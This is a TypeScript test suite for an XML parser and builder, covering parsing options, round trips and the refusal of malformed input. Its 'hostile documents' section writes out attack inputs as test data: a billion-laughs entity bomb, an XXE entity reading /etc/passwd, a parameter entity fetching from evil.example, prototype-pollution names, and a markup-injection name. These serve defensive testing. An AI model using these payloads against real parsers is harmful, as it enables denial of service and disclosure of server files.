import { ValidationError } from '@x/messaging-core';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildXml, parseXml } from '../src/xml';

/** The issue code of the ValidationError `read` throws. */
function refusal(read: () => unknown): string | undefined {
  try {
    read();
  } catch (error) {
    expect(ValidationError.isInstance(error)).toBe(true);
    expect((error as ValidationError).target).toBe('xml');
    return (error as ValidationError).issues[0]?.code;
  }
  throw new Error('expected the document to be refused');
}

describe('parseXml', () => {
  it('keeps values as strings and decodes entities and character references', () => {
    const value = parseXml(
      '<?xml version="1.0" encoding="UTF-8"?><response><result>1</result><gsm>05321234567</gsm>' +
        '<name>A &amp; B &#231;&#x15F;</name><empty /></response>',
    );
    expect(value).toEqual({ response: { result: '1', gsm: '05321234567', name: 'A & B çş', empty: '' } });
  });

  it('forces lists by path so one item still parses as an array', () => {
    const value = parseXml('<response><data><item><id>1</id></item></data></response>', {
      isArray: (_name, path) => path === 'response.data.item',
    });
    expect(value).toEqual({ response: { data: { item: [{ id: '1' }] } } });
  });

  it('keeps attributes under the @_ prefix', () => {
    expect(parseXml('<r id="7">x</r>')).toEqual({ r: { '#text': 'x', '@_id': '7' } });
  });

  it('refuses a DOCTYPE, so entities are never expanded', () => {
    const bomb = '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>';
    expect(() => parseXml(bomb)).toThrow(ValidationError);
    try {
      parseXml(bomb);
    } catch (error) {
      expect((error as ValidationError).issues[0]?.code).toBe('xml_doctype');
    }
  });

  it('refuses documents nested deeper than the limit', () => {
    const deep = `${'<a>'.repeat(20)}x${'</a>'.repeat(20)}`;
    expect(() => parseXml(deep, { maxDepth: 10 })).toThrow(/too deeply nested/);
    expect(() => parseXml(deep, { maxDepth: 30 })).not.toThrow();
  });

  it('refuses text that is not well-formed XML', () => {
    expect(() => parseXml('<html><body>Service Unavailable')).toThrow(ValidationError);
  });
});

describe('parseXml: hostile documents', () => {
  it('refuses the billion laughs before anything is expanded', () => {
    const levels = Array.from(
      { length: 9 },
      (_, index) => `<!ENTITY lol${index + 1} "${`&lol${index};`.repeat(10)}">`,
    );
    const bomb = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${levels.join('')}]><lolz>&lol9;</lolz>`;
    expect(refusal(() => parseXml(bomb))).toBe('xml_doctype');
  });

  it('refuses an external entity (a file or URL fetched by the parser)', () => {
    const external = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>';
    expect(refusal(() => parseXml(external))).toBe('xml_doctype');
    const parameter = '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><r/>';
    expect(refusal(() => parseXml(parameter))).toBe('xml_doctype');
  });

  it('refuses a DOCTYPE anywhere and in any case, even one without entities', () => {
    expect(refusal(() => parseXml('<!doctype html><html/>'))).toBe('xml_doctype');
    expect(refusal(() => parseXml('<r><!-- <!DOCTYPE r> --></r>'))).toBe('xml_doctype');
    expect(refusal(() => parseXml('<r><![CDATA[<!ENTITY a "b">]]></r>'))).toBe('xml_doctype');
  });

  it('leaves an undeclared entity as written', () => {
    expect(parseXml('<r>&nbsp; &unknown; &amp</r>')).toEqual({ r: '&nbsp; &unknown; &amp' });
  });

  it('writes an invalid character reference as U+FFFD instead of a broken string', () => {
    expect(parseXml('<r>&#0;&#xD800;&#x110000;</r>')).toEqual({ r: '\uFFFD\uFFFD\uFFFD' });
  });

  it('accepts exactly maxDepth levels', () => {
    const nested = (depth: number) => `${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}`;
    expect(() => parseXml(nested(32), { maxDepth: 32 })).not.toThrow();
    expect(refusal(() => parseXml(nested(33), { maxDepth: 32 }))).toBe('xml_depth');
    expect(refusal(() => parseXml(nested(100_000)))).toBe('xml_depth');
  });

  it('refuses a document longer than maxLength before reading it', () => {
    const long = `<r>${'x'.repeat(2000)}</r>`;
    expect(refusal(() => parseXml(long, { maxLength: 1000 }))).toBe('xml_too_large');
    expect(parseXml(long, { maxLength: 3000 })).toEqual({ r: 'x'.repeat(2000) });
  });

  it('refuses names that would reach Object.prototype', () => {
    expect(refusal(() => parseXml('<r><__proto__><polluted>1</polluted></__proto__></r>'))).toBe(
      'invalid_xml',
    );
    expect(refusal(() => parseXml('<r><constructor/></r>'))).toBe('invalid_xml');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('parseXml: broken documents', () => {
  const documents = [
    '<?xml version="1.0" encoding="UTF-8"?><response><data><result>1</result><deliveries><item><track_id/>' +
      '<transaction_id>16502030</transaction_id><valid><item><gsm>905320000000</gsm></item></valid><invalid/>' +
      '</item></deliveries></data></response>',
    '<?xml version="1.0"?>\n<response>\n  <error><code>87</code><message>Kay&#305;t &amp; bitti</message></error>\n</response>\n',
    '<r a="1" b=\'x\'>text<![CDATA[ <b> ]]><!-- c --><?pi x="?>"?><e/></r>',
  ];

  it.each(documents)('refuses the document cut anywhere inside its root: %s', (document) => {
    const root = document.indexOf('<', document.startsWith('<?xml') ? document.indexOf('?>') : 0);
    const end = document.trimEnd().length;
    expect(() => parseXml(document)).not.toThrow();
    for (let cut = root + 1; cut < end; cut++) {
      const prefix = document.slice(0, cut);
      expect(
        refusal(() => parseXml(prefix)),
        prefix,
      ).toBe('invalid_xml');
      expect(
        refusal(() => parseXml(prefix, { fragment: true })),
        prefix,
      ).toBe('invalid_xml');
    }
  });

  it.each([
    ['an empty body', ''],
    ['plain text', 'Service Unavailable'],
    ['text after the root', '<r/>trailing'],
    ['an end tag closing nothing', '<r/></r>'],
    ['a stray <', '<r>1 < 2</r>'],
    ['an unclosed CDATA section', '<r><![CDATA[ open</r>'],
    ['an unclosed attribute value', '<r a="open></r>'],
    ['two root elements', '<a/><b/>'],
  ])('refuses %s', (_name, document) => {
    expect(refusal(() => parseXml(document))).toBe('invalid_xml');
  });
});

describe('parseXml: options a provider needs', () => {
  it('reads wrapped lists as arrays whatever their length; an empty one stays empty', () => {
    const value = parseXml(
      '<?xml version="1.0"?><response><data><one><item><a>1</a></item></one><none/>' +
        '<two><item>x</item><item>y</item></two></data></response>',
      { listItemName: 'item' },
    );
    expect(value).toEqual({ response: { data: { one: [{ a: '1' }], none: '', two: ['x', 'y'] } } });
  });

  it('keeps a repeated wrapped list as a list of lists', () => {
    expect(parseXml('<r><l><item>1</item></l><l><item>2</item></l></r>', { listItemName: 'item' })).toEqual({
      r: { l: [['1'], ['2']] },
    });
  });

  it('reads list names as arrays, repeated names as arrays, text beside elements as #text', () => {
    const lists = new Set(['gsms']);
    expect(
      parseXml('<d><gsms>1</gsms><gsm>2</gsm><gsm>3</gsm><note>a<b>c</b>d</note></d>', {
        isArray: (name) => lists.has(name),
      }),
    ).toEqual({ d: { gsms: ['1'], gsm: ['2', '3'], note: { b: 'c', '#text': 'ad' } } });
  });

  it('skips attributes when asked', () => {
    expect(parseXml('<r a="1"><t b="2">x</t><e c="3"/></r>', { attributes: false })).toEqual({
      r: { t: 'x', e: '' },
    });
  });

  it('decodes attribute values and takes another prefix', () => {
    expect(parseXml('<r a="1 &amp; 2"/>', { attributePrefix: '$' })).toEqual({ r: { $a: '1 & 2' } });
  });

  it('reads sibling elements without a root as a fragment', () => {
    const rows = '<item><a>1</a></item><item><a>2</a></item>';
    expect(parseXml(rows, { fragment: true, listItemName: 'item' })).toEqual([{ a: '1' }, { a: '2' }]);
    expect(parseXml('', { fragment: true })).toEqual({});
    expect(refusal(() => parseXml('<a/>text<b/>', { fragment: true }))).toBe('invalid_xml');
  });

  it('keeps CDATA as written, trims text, turns CRLF into LF, skips comments and instructions', () => {
    expect(parseXml('<r> a <![CDATA[ <b>&amp; ]]> c </r>')).toEqual({ r: 'a <b>&amp; c' });
    expect(parseXml('<r>\r\n  a \r\n b  \r\n</r>')).toEqual({ r: 'a \n b' });
    expect(parseXml('\n<?xml version="1.0"?>\n<!-- head --><r><?pi x?><n>1</n><!-- c --></r>')).toEqual({
      r: { n: '1' },
    });
  });
});

describe('buildXml', () => {
  it('writes arrays as repeated elements, escapes text and skips undefined values', () => {
    const xml = buildXml({
      document: { data: { gsm: ['905321234567', '905551112233'], header: 'A&B <x>', skip: undefined } },
    });
    expect(xml).toBe(
      '<?xml version="1.0" encoding="UTF-8"?><document><data><gsm>905321234567</gsm>' +
        '<gsm>905551112233</gsm><header>A&amp;B &lt;x&gt;</header></data></document>',
    );
  });

  it('round-trips through parseXml', () => {
    const value = { r: { a: 'ç & ş', list: ['1', '2'] } };
    expect(parseXml(buildXml(value))).toEqual(value);
  });

  it('writes empty values as empty elements, booleans as digits when asked, quotes escaped', () => {
    const xml = buildXml(
      {
        document: {
          data: {
            empty: '',
            nothing: null,
            none: [],
            numbers: [1, 2],
            flag: true,
            off: false,
            note: `a"b'c`,
          },
        },
      },
      { declaration: false, booleans: 'digits' },
    );
    expect(xml).toBe(
      '<document><data><empty/><nothing/><numbers>1</numbers><numbers>2</numbers><flag>1</flag>' +
        '<off>0</off><note>a&quot;b&apos;c</note></data></document>',
    );
    expect(buildXml({ r: { flag: true } }, { declaration: false })).toBe('<r><flag>true</flag></r>');
  });

  it('wraps lists in list entries when asked; at the top a list is several roots', () => {
    expect(buildXml({ response: { rows: [{ id: 1, end: null }], none: [] } }, { listItemName: 'item' })).toBe(
      '<?xml version="1.0" encoding="UTF-8"?><response><rows><item><id>1</id><end/></item></rows><none/></response>',
    );
    expect(buildXml({ item: [{ a: 1 }, { a: 2 }] }, { declaration: false, listItemName: 'item' })).toBe(
      '<item><a>1</a></item><item><a>2</a></item>',
    );
  });

  it('writes attributes and text beside elements, escaped', () => {
    expect(buildXml({ r: { '@_id': 'a"b<', '#text': 'x', s: 'y' } }, { declaration: false })).toBe(
      '<r id="a&quot;b&lt;">x<s>y</s></r>',
    );
  });

  it.each([
    ['a name with a space', { 'a b': 1 }, 'invalid_xml_name'],
    ['markup in a name', { r: { 'x><script': 1 } }, 'invalid_xml_name'],
    ['a processing instruction key', { r: { '?pi': 1 } }, 'invalid_xml_name'],
    ['an attribute name that is no name', { r: { '@_a b': 1 } }, 'invalid_xml_name'],
    ['an own __proto__ key', JSON.parse('{"r":{"__proto__":{"x":1}}}'), 'invalid_xml_name'],
    ['a NUL in a text', { r: 'a\u0000b' }, 'invalid_xml_value'],
    ['a lone surrogate', { r: 'a\uD800' }, 'invalid_xml_value'],
    ['a function', { r: () => 1 }, 'invalid_xml_value'],
    ['a list inside a list without list entries', { r: [[1]] }, 'invalid_xml_value'],
  ])('refuses %s', (_name, value, code) => {
    expect(refusal(() => buildXml(value as Record<string, unknown>))).toBe(code);
  });

  it('refuses a value nested deeper than maxDepth, a cycle included', () => {
    const cycle: Record<string, unknown> = {};
    cycle.self = cycle;
    expect(refusal(() => buildXml({ r: cycle }))).toBe('xml_depth');
    let deep: Record<string, unknown> = { leaf: 'x' };
    for (let level = 0; level < 10; level++) deep = { a: deep };
    expect(refusal(() => buildXml(deep, { maxDepth: 5 }))).toBe('xml_depth');
    expect(() => buildXml(deep, { maxDepth: 20 })).not.toThrow();
  });

  /* Texts that survive a round trip: no characters XML cannot carry, no CR (read as LF), no outer spaces. */
  const text = fc
    .string({ unit: 'binary', maxLength: 12 })
    .filter((value) => !/[\u0000-\u0008\u000B\u000C\u000E-\u001F\r\uFFFE\uFFFF]/.test(value))
    .filter((value) => value.trim() === value);
  const name = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_.-]{0,6}$/).filter((value) => value !== 'item');
  const { value } = fc.letrec<{ value: unknown }>((tie) => ({
    value: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      text,
      fc.array(tie('value'), { minLength: 1, maxLength: 3 }),
      fc.dictionary(name, tie('value'), { minKeys: 1, maxKeys: 3 }),
    ),
  }));

  // One root element (a list at the top would be several roots).
  const root = value.filter((rootValue) => !Array.isArray(rootValue));

  it('reads back what it writes, any text and nesting (property)', () => {
    fc.assert(
      fc.property(fc.dictionary(name, root, { minKeys: 1, maxKeys: 1 }), (document) => {
        const xml = buildXml(document, { listItemName: 'item' });
        expect(parseXml(xml, { listItemName: 'item' })).toEqual(document);
      }),
      { numRuns: 300 },
    );
  });
});
